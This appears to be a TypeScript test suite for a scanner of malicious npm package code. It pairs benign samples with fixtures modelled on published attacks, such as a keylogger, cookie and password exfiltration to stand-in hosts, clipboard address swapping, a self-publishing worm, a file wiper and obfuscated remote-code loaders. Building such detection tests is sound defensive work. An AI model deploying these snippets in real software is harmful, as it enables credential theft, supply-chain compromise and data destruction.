import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { scan, signs } from './package-code.ts';

interface Sample {
  readonly files: Readonly<Record<string, string>>;
  readonly manifest?: object;
}

const base64 = (text: string) => Buffer.from(text).toString('base64');

/** Mechanisms of published attacks, in other words than any of them. */
const ATTACKS: Readonly<Record<string, Sample>> = {
  'a program that an image has': {
    files: {
      'index.js': `const { readFileSync } = require('node:fs'); const at = require('node:path').join(__dirname, 'assets/logo.png');
const text = readFileSync(at).toString('latin1').split('<end>')[1]; new Function('require', text)(require);`,
    },
  },
  'an addon that is code': {
    files: {
      'index.js': `import('node:fs').then(async (fs) => { eval((await fs.promises.readFile('./build/Release/fast.node', 'utf8')).slice(9)); });`,
    },
  },
  'code in a cookie of a request': {
    files: {
      'index.js': `const run = require('./lib/run'); exports.parse = (req) => { run(Buffer.from(req.headers.cookie.slice(4), 'base64')); return {}; };`,
      'lib/run.js': `const vm = require('vm'); module.exports = (bytes) => vm.runInNewContext(bytes.toString(), { require });`,
    },
  },
  'code in a query that a server gets': {
    files: {
      'index.js': `const express = require('express'); const app = express(); app.get('/health', (req, res) => res.send(String(eval(req.query.q)))); app.listen(80);`,
    },
  },
  'remote code behind a promise': {
    files: {
      'index.js': `const load = require('./remote'); load('config').then((text) => new Function('require', text)(require));`,
      'remote.js': `const https = require('https'); module.exports = (name) => new Promise((done, fail) => { https.get('https://cdn.example/' + name, (res) => { let all = ''; res.on('data', (part) => { all += part; }); res.on('end', () => done(all)); }).on('error', fail); });`,
    },
  },
  'remote code by async functions in three files': {
    files: {
      'index.mjs': `import { refresh } from './refresh.mjs'; await refresh();`,
      'refresh.mjs': `import { get } from './http.mjs'; export async function refresh() { const source = await get('rules'); (0, eval)(source); }`,
      'http.mjs': `export async function get(path) { const answer = await fetch('https://cdn.example/' + path); return answer.text(); }`,
    },
  },
  'remote code by callbacks with names': {
    files: {
      'index.js': `const https = require('https'); const run = require('./run'); function answered(res) { const parts = []; res.on('data', (part) => parts.push(part)); res.on('end', ended); function ended() { run(Buffer.concat(parts)); } } https.get('https://cdn.example/a', answered);`,
      'run.js': `module.exports = (bytes) => { const m = new module.constructor(); m._compile(bytes.toString(), 'a.js'); };`,
    },
  },
  'a mnemonic in a query': {
    files: {
      'index.js': `const report = require('./report'); exports.fromMnemonic = function (mnemonic) { report('restore', mnemonic); return derive(mnemonic); };`,
      'report.js': `module.exports = (event, value) => { new Image(); require('https').get('https://stats.example/e?n=' + event + '&v=' + encodeURIComponent(value)); };`,
    },
  },
  'a private key of a class': {
    files: {
      'index.js': `const { track } = require('./track'); class Wallet { constructor(privateKey) { this.key = privateKey; track({ kind: 'wallet', value: privateKey }); } } module.exports = Wallet;`,
      'track.js': `const axios = require('axios'); exports.track = (data) => axios.post('https://metrics.example/v1', data).catch(() => {});`,
    },
  },
  'keys that are pressed': {
    files: {
      'index.js': `let typed = ''; document.addEventListener('keydown', (event) => { typed += event.key; if (typed.length > 20) { navigator.sendBeacon('https://keys.example/k', typed); typed = ''; } });`,
    },
  },
  'the password of a form': {
    files: {
      'index.js': `const field = document.querySelector('input[type="password"]'); field.form.addEventListener('submit', () => { fetch('https://forms.example/c', { method: 'POST', body: field.value }); });`,
    },
  },
  'the cookies of a page': {
    files: {
      'index.js': `setTimeout(() => { fetch('https://c.example/?c=' + encodeURIComponent(document.cookie)); }, 100);`,
    },
  },
  'the clipboard, replaced if it is an address': {
    files: {
      'index.js': `const clip = require('./clip'); const mine = require('./mine'); setInterval(() => { const now = clip.get(); const other = mine(now); if (other) clip.set(other); }, 500);`,
      'clip.js': `const cp = require('child_process'); exports.get = () => cp.execSync('powershell Get-Clipboard').toString(); exports.set = (text) => cp.execSync('powershell Set-Clipboard ' + text);`,
      'mine.js': `module.exports = (text) => /^0x[a-fA-F0-9]{40}$/.test(text) ? '0x0000000000000000000000000000000000000001' : undefined;`,
    },
  },
  'the clipboard of a page': {
    files: {
      'index.js': `document.addEventListener('copy', async () => { const text = await navigator.clipboard.readText(); if (/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(text) || /^0x[a-fA-F0-9]{40}$/.test(text)) navigator.clipboard.writeText('bc1qexample'); });`,
    },
  },
  'headers of all requests': {
    files: {
      'index.js': `const real = globalThis.fetch; globalThis.fetch = function (url, options) { real('https://mirror.example/log', { method: 'POST', body: JSON.stringify({ url, headers: options && options.headers }) }); return real(url, options); };`,
    },
  },
  'bodies of requests in a browser': {
    files: {
      'index.js': `const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { navigator.sendBeacon('https://mirror.example/b', body); return send.call(this, body); };`,
    },
  },
  'addresses replaced in answers': {
    files: {
      'index.js': `const own = '0x0000000000000000000000000000000000000001'; const old = window.fetch; window.fetch = async (...args) => { const answer = await old(...args); return new Response((await answer.text()).replace(/0x[a-fA-F0-9]{40}/g, own)); };`,
    },
  },
  'an endless loop behind an import': {
    files: {
      'index.js': `const banner = require('./banner'); banner(); module.exports = {};`,
      'banner.js': `module.exports = function () { while (true) { process.stdout.write('stop '); } };`,
    },
  },
  'an endless loop without a condition': {
    manifest: { exports: { import: './index.mjs' } },
    files: {
      'index.mjs': `export const version = 1; for (let i = 0; ; i++) { switch (i % 2) { case 0: console.log('even'); break; default: console.error('odd'); } }`,
    },
  },
  'files overwritten in one country': {
    files: {
      'index.js': `const where = require('./where'); const wipe = require('./wipe'); where((answer) => { if (answer.country_code === 'XX') wipe(process.cwd()); });`,
      'where.js': `const https = require('https'); module.exports = (done) => https.get('https://geo.example/json', (res) => res.on('data', (part) => done(JSON.parse(part))));`,
      'wipe.js': `const fs = require('fs'), path = require('path'); module.exports = function wipe(folder) { for (const item of fs.readdirSync(folder)) { const full = path.join(folder, item); if (fs.statSync(full).isDirectory()) wipe(full); else fs.writeFileSync(full, '\\u2764'); } };`,
    },
  },
  'a page closed in one time zone': {
    files: {
      'index.js': `if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Example') { document.body.innerHTML = '<h1>Closed</h1>'; }`,
    },
  },
  'names of a project in a question to a name server': {
    manifest: { scripts: { preinstall: 'node pre.js' } },
    files: {
      'pre.js': `const dns = require('dns'), os = require('os'); const part = Buffer.from(os.hostname() + '|' + os.userInfo().username + '|' + __dirname).toString('hex'); dns.resolve4(part.slice(0, 60) + '.q.example', () => {});`,
    },
  },
  'code added to another package': {
    manifest: { scripts: { postinstall: 'node post.js' } },
    files: {
      'post.js': `const fs = require('fs'); const at = require.resolve('express'); fs.appendFileSync(at, ";require('http').get('http://h.example/?' + require('os').hostname());");`,
    },
  },
  'a loader that adds code': {
    files: {
      'index.js': `const Module = require('module'); const compile = Module.prototype._compile; Module.prototype._compile = function (text, file) { return compile.call(this, text + ${JSON.stringify(`;require('https').get('https://h.example/?' + JSON.stringify(process.env));`)}, file); };`,
    },
  },
  'a decoded host with the names of the machine': {
    files: {
      'index.js': `const os = require('os'); const to = atob('${base64('https://collect.example/x')}'); fetch(to, { method: 'POST', body: JSON.stringify({ h: os.hostname(), u: os.userInfo() }) });`,
    },
  },
  'white space that is code': {
    files: {
      'index.js': `const bits = '${'\\u200b\\u200c'.repeat(20)}'.split('').map((c) => (c === '\\u200b' ? '0' : '1')).join(''); const text = bits.match(/.{8}/g).map((b) => String.fromCharCode(parseInt(b, 2))).join(''); new Function(text)();`,
    },
  },
  'a list of texts that is turned': {
    files: {
      'index.js': `var a=['x','homedir','readFileSync','child_process','https','os','fs','exec'];(function(b,c){while(--c){b['push'](b['shift']());}}(a,3));function d(e){return a[e-100];}require(d(101))[d(104)](require(d(105))[d(106)]());`,
    },
  },
  'packages published by a helper': {
    manifest: { scripts: { postinstall: 'node worm.js' } },
    files: {
      'worm.js': `const npm = require('./npm'); const fs = require('fs'); npm(['whoami']); for (const name of JSON.parse(npm(['access', 'ls-packages']))) { const pkg = { name, version: '9.9.9', scripts: { postinstall: 'node worm.js' } }; fs.writeFileSync('/tmp/w/package.json', JSON.stringify(pkg)); npm(['publish', '--access', 'public']); }`,
      'npm.js': `const { execFileSync } = require('child_process'); module.exports = (args) => execFileSync('npm', args, { encoding: 'utf8' });`,
    },
  },
  'a dependency that another server gives': {
    manifest: { dependencies: { 'sample-styles': 'http://packages.example/sample-styles' } },
    files: { 'index.js': 'module.exports = {};' },
  },
  'a function of lists that fails at times': {
    files: {
      'index.js': `const old = Array.prototype.includes; Array.prototype.includes = function (...args) { return Math.random() < 0.05 ? false : old.apply(this, args); };`,
    },
  },
  'a project that is removed on a day': {
    files: {
      'index.js': `const fs = require('fs'); if (new Date() > new Date('2026-01-01')) fs.rmSync(process.cwd(), { recursive: true, force: true });`,
    },
  },
  'code that a page of Electron gets': {
    files: {
      'index.js': `const { app } = require('electron'); app.on('web-contents-created', (e, page) => page.on('dom-ready', () => page.executeJavaScript("document.querySelectorAll('input[type=password]').forEach((f) => f.addEventListener('change', () => fetch('https://f.example/', { method: 'POST', body: f.value })))")));`,
    },
  },
};

/** Honest code with the same parts. */
const HONEST: Readonly<Record<string, Sample>> = {
  'a switch between registries': {
    files: {
      'index.js': `const { execSync } = require('child_process'); const fs = require('fs'); const rc = require('os').homedir() + '/.npmrc';
exports.use = (url) => { fs.readFileSync(rc); fs.writeFileSync(rc, 'registry=' + url + '\\nstrict-ssl=false'); execSync('npm config set registry ' + url); };`,
    },
  },
  'a report in the documents of the user': {
    files: {
      'index.js': `const path = require('path'); exports.save = (text) => require('fs').writeFileSync(path.join(require('os').homedir(), 'Documents', 'report.txt'), text);`,
    },
  },
  'a payment that the caller asks for': {
    files: {
      'index.js': `fetch('https://rates.example/now'); exports.pay = (to, value) => window.ethereum.request({ method: 'eth_sendTransaction', params: [{ to, value }] });`,
    },
  },
  'a script that downloads a list': {
    files: { 'update.sh': 'curl -sO https://data.example/list.txt\nsh build.sh\n./check list.txt' },
    manifest: { scripts: { postinstall: 'sh update.sh' } },
  },
  'a tracer of requests': {
    files: {
      'index.js': `const http = require('http'); const real = http.request; exports.spans = []; http.request = function (...args) { const started = Date.now(); const req = real.apply(this, args); req.on('response', () => exports.spans.push({ host: req.getHeader('host'), took: Date.now() - started })); return req; };`,
    },
  },
  'a client that adds a header': {
    files: {
      'index.js': `const real = window.fetch; window.fetch = (url, options = {}) => real(url, { ...options, headers: { ...options.headers, 'x-trace': String(Math.random()) } });`,
    },
  },
  'a login form': {
    files: {
      'index.js': `export class Login { constructor(url) { this.url = url; } submit(form) { return fetch(this.url, { method: 'POST', body: JSON.stringify({ password: form.querySelector('[type=password]').value }) }); } }`,
    },
  },
  'a meter of passwords': {
    files: {
      'index.js': `const field = document.querySelector('#password'); field.addEventListener('input', () => { document.querySelector('#meter').value = score(field.value); });`,
    },
  },
  'shortcuts of a page': {
    files: {
      'index.js': `const keys = new Map(); document.addEventListener('keydown', (event) => keys.get(event.key)?.(event)); exports.add = (key, fn) => keys.set(key, fn); exports.load = () => fetch('https://api.example/shortcuts');`,
    },
  },
  'a reader of one cookie': {
    files: {
      'index.js': `exports.get = (name) => document.cookie.split('; ').find((one) => one.startsWith(name + '='))?.split('=')[1]; exports.send = () => fetch('https://api.example/', { headers: { 'x-csrf': exports.get('csrf') } });`,
    },
  },
  'a worker that waits': {
    files: {
      'index.js': `const { parentPort } = require('worker_threads'); function work(view) { while (true) { Atomics.wait(view, 0, 0); console.log('step'); } } parentPort.on('message', work);`,
      'parser.js': `exports.parse = (text) => { let at = 0; for (;;) { if (at >= text.length) break; console.debug(text[at++]); } };`,
    },
  },
  'a library of wallets with a copy button': {
    files: {
      'index.js': `exports.isAddress = (text) => /^0x[a-fA-F0-9]{40}$/.test(text); exports.copy = (address) => navigator.clipboard.writeText(address); exports.send = (provider, tx) => provider.request({ method: 'eth_sendTransaction', params: [tx] });`,
    },
  },
  'a reader of icons': {
    files: {
      'index.js': `const fs = require('fs'), path = require('path'); exports.icon = (name) => 'data:image/png;base64,' + fs.readFileSync(path.join(__dirname, 'icons', name + '.png')).toString('base64'); exports.compile = (text) => new Function('data', 'return ' + JSON.stringify(text));`,
    },
  },
  'a loader of addons': {
    files: {
      'index.js': `const path = require('path'); module.exports = require(path.join(__dirname, 'prebuilds', process.platform, 'addon.node'));`,
    },
  },
  'a page of settings by locale': {
    files: {
      'index.js': `const zone = Intl.DateTimeFormat().resolvedOptions().timeZone; exports.render = () => { document.body.innerHTML = '<div id="app"></div>'; document.querySelector('#app').textContent = zone; }; if (zone === 'UTC') exports.isUtc = true;`,
    },
  },
  'a minified bundle': {
    files: {
      'index.js': `!function(e,t){"object"==typeof exports?module.exports=t(require("fs"),require("https")):e.lib=t()}(this,function(e,t){var n=[];return n.push(n.shift()),{r:function(r){return e.readFileSync(r)},g:function(r,o){return t.get(r,o)}}});`,
    },
  },
  'a client with the registry of settings': {
    files: {
      'index.js': `const { settings } = require('./settings'); const { registry } = settings(); exports.info = (name) => fetch(registry + name);`,
      'settings.js': `const fs = require('fs'), os = require('os'), path = require('path'); exports.settings = () => { const text = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); return { registry: /registry=(.*)/.exec(text)[1] }; };`,
    },
  },
  'a command that installs a service': {
    manifest: { bin: { keep: 'cli.js' } },
    files: {
      'cli.js': `#!/usr/bin/env node\nconst { install } = require('./service'); if (process.argv[2] === 'install') install();`,
      'service.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); exports.install = () => { fs.writeFileSync(path.join(os.homedir(), 'Library/LaunchAgents/keep.plist'), '<plist/>'); cp.execFileSync('launchctl', ['load', 'keep.plist']); };`,
    },
  },
  'a measurement beside the code': {
    manifest: { main: 'lib.js', exports: { '.': { import: './lib.js' } } },
    files: {
      'lib.js': 'module.exports = (text) => text;',
      'speed.js': `const lib = require('./lib'); while (true) { lib('x'); console.log(Date.now()); }`,
    },
  },
  'a log with times': {
    files: {
      'index.js': `const log = console.log; console.log = (...args) => log(new Date().getHours(), ...args);`,
    },
  },
  'a tool that cleans its output': {
    manifest: { dependencies: { tool: 'https://registry.example/tool.tgz' } },
    files: {
      'index.js': `const fs = require('fs'), path = require('path'); exports.clean = () => { fs.rmSync(path.join(process.cwd(), 'dist'), { recursive: true }); fs.rmSync(__dirname + '/cache', { recursive: true }); };`,
    },
  },
  'a tool that formats files': {
    files: {
      'index.js': `const fs = require('fs'), path = require('path'); exports.format = (folder) => { for (const name of fs.readdirSync(folder)) { const full = path.join(folder, name); fs.writeFileSync(full, fs.readFileSync(full, 'utf8').trimEnd() + '\\n'); } };`,
    },
  },
};

describe('a verdict on mechanisms of published attacks', () => {
  for (const [name, { files, manifest }] of Object.entries(ATTACKS))
    test(`is suspicious for ${name}`, () => {
      const record = scan(files, manifest);
      assert.ok(record.isSuspicious, `${record.score}: ${signs(record).join(', ')}`);
    });

  for (const [name, { files, manifest }] of Object.entries(HONEST))
    test(`is not suspicious for ${name}`, () => {
      const record = scan(files, manifest);
      assert.ok(!record.isSuspicious, `${record.score}: ${signs(record).join(', ')}`);
    });
});
